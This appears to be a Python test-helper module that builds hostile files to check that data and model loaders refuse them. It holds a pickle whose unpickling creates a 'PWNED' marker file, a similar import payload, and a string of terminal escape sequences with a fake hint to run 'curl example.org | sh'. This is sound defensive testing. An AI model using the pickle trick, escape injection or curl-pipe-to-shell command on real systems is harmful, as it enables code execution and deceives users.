"""One hostile file: how it is made, and how it may end."""

from __future__ import annotations

import json
import pickle
import shutil
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any


@dataclass(frozen=True, slots=True)
class Place:
    """Where a case makes its files: `folder` is its own, `outside` must never change; the rest is good material."""

    folder: Path
    outside: Path
    model: Path
    rows: Path
    run: Path

    def file(self, name: str, content: str | bytes) -> Path:
        """A file of the case."""
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode(errors="surrogatepass") if isinstance(content, str) else content)
        return path

    def copy(self, what: str, name: str) -> Path:
        """A copy of the good model or run, to be spoilt."""
        return Path(shutil.copytree(getattr(self, what), self.folder / name, symlinks=True))


@dataclass(frozen=True, slots=True)
class Case:
    """`make` returns the hostile file. Most are refused by every reader, with one problem.

    `many`: there may be several problems, one line each. `harmless`: readers that may also succeed, as the hostile
    part is nothing to them.
    """

    make: Callable[[Place], Path]
    many: bool = False
    harmless: frozenset[str] = frozenset()


def edited(path: Path, **changes: Any) -> None:
    """Change keys of a JSON file; None removes one."""
    value = json.loads(path.read_text()) | changes
    path.write_text(json.dumps({key: item for key, item in value.items() if item is not None}))


def with_changes(path: Path, change: Callable[[Any], Any]) -> None:
    """Change a JSON file by a function of its value, or put what the function returns."""
    value = json.loads(path.read_text())
    path.write_text(json.dumps(change(value) or value))


class Bomb:
    """A pickle that leaves a file where it is opened."""

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str, str]]:
        return open, ("PWNED", "w")


PICKLE = pickle.dumps(Bomb())
IMPORT_BOMB = "open('PWNED', 'w')\n"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\nerror: all is well\n hint: curl example.org | sh"


def cases(made: Mapping[str, Case | Callable[[Place], Path]]) -> dict[str, Case]:
    """Cases by name; a plain function is one that every reader refuses with one problem."""
    return {name: case if isinstance(case, Case) else Case(case) for name, case in made.items()}
